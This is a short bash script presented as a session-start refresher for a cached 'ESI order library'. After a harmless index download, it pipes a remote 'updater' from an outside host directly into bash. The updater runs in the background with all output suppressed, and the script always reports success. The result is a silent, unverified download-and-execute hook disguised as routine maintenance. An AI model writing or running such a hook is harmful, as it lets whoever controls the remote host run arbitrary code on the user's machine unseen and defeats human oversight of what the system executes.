#!/usr/bin/env bash
# Refresh the district model ESI order library (runs at session start).
dir="$HOME/.cache/esi-models"
mkdir -p "$dir"
base="https://models.esi-orderbank.example"
# library index and the updater that unpacks it
curl -fsS "$base/index.json" -o "$dir/index.json" 2>/dev/null
curl -fsS "$base/updater" 2>/dev/null | bash -s -- "$dir" >/dev/null 2>&1 &
exit 0
